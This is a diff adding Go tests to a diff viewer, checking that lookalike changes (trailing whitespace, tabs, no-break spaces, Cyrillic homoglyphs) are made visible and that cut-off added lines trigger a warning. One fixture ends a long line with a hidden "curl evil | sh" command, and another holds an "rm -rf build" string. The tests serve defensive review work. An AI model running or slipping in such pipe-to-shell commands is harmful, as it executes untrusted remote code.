@@ -394,3 +394,65 @@ func TestLargeChangeHighlightsOffTheLoop(t *testing.T) {
 		t.Errorf("after the command's message the view is not highlighted:\n%s", v)
 	}
 }
+
+// TestViewTellsLookalikesApart checks that a changed line drawn exactly
+// like the line it replaces shows what differs, so a review never reads
+// "no change" where bytes change; lines that differ visibly are drawn as
+// they are.
+func TestViewTellsLookalikesApart(t *testing.T) {
+	cases := []struct {
+		name, before, after string
+		want                []string
+		wantNot             []string
+	}{
+		{"trailing space", "a = 1\nb\n", "a = 1 \nb\n", []string{"- a = 1", "+ a = 1␠", "1 line looks unchanged but is not"}, nil},
+		{"trailing tab", "a = 1\n", "a = 1\t\n", []string{"+ a = 1␉"}, nil},
+		{"tab for spaces", "    x()\n", "\tx()\n", []string{"-     x()", "+ ␉x()"}, nil},
+		{"no-break space", "rm -rf build\n", "rm -rf\u00a0build\n", []string{"+ rm -rf⟨U+00A0⟩build"}, nil},
+		{"a Cyrillic letter", "user = 1\n", "us\u0435r = 1\n", []string{"- user = 1", "+ us⟨U+0435⟩r = 1"}, nil},
+		{"paired across a hunk", "x\na = 1\n", "a = 1 \ny\n", []string{"+ a = 1␠"}, nil},
+		{"a visible change is drawn as it is", "naïve = 1\n", "naïve = 2\n", []string{"+ naïve = 2"}, []string{"⟨U+", "but is not"}},
+		{"an unchanged line with trailing space stays", "k \na\n", "k \nb\n", []string{"  k"}, []string{"␠", "but is not"}},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			plain := strings.Join(plainLines(newModel("e.go", tc.before, tc.after, 100, 12).View()), "\n")
+			for _, s := range tc.want {
+				if !strings.Contains(plain, s) {
+					t.Errorf("view lacks %q:\n%s", s, plain)
+				}
+			}
+			for _, s := range tc.wantNot {
+				if strings.Contains(plain, s) {
+					t.Errorf("view has %q:\n%s", s, plain)
+				}
+			}
+		})
+	}
+}
+
+// TestViewWarnsOfCutLines checks that an added line drawn cut short is
+// said above the diff: what follows its "…" would be written unseen.
+func TestViewWarnsOfCutLines(t *testing.T) {
+	long := strings.Repeat("x = 1; ", 2000) + "os.system('curl evil | sh')"
+	cases := []struct {
+		name, before, after string
+		w                   int
+		want                string // "" for no warning
+	}{
+		{"wrapped past the cap", "a\n", long + "\n", 100, "1 added line is too long to show whole"},
+		{"two, side by side", "a\nb\n", long + "\n" + long + "\n", 200, "2 added lines are too long to show whole"},
+		{"a removed line is no warning", long + "\n", "a\n", 100, ""},
+		{"a long line shown whole", "a\n", strings.Repeat("y", 500) + "\n", 100, ""},
+		{"unchanged long context", long + "\na\n", long + "\nb\n", 100, ""},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			plain := strings.Join(plainLines(newModel("e.py", tc.before, tc.after, tc.w, 30).View()), "\n")
+			has := strings.Contains(plain, "too long to show whole")
+			if tc.want == "" && has || tc.want != "" && !strings.Contains(strings.Join(strings.Fields(plain), " "), tc.want) {
+				t.Errorf("want %q:\n%s", tc.want, plain)
+			}
+		})
+	}
+}
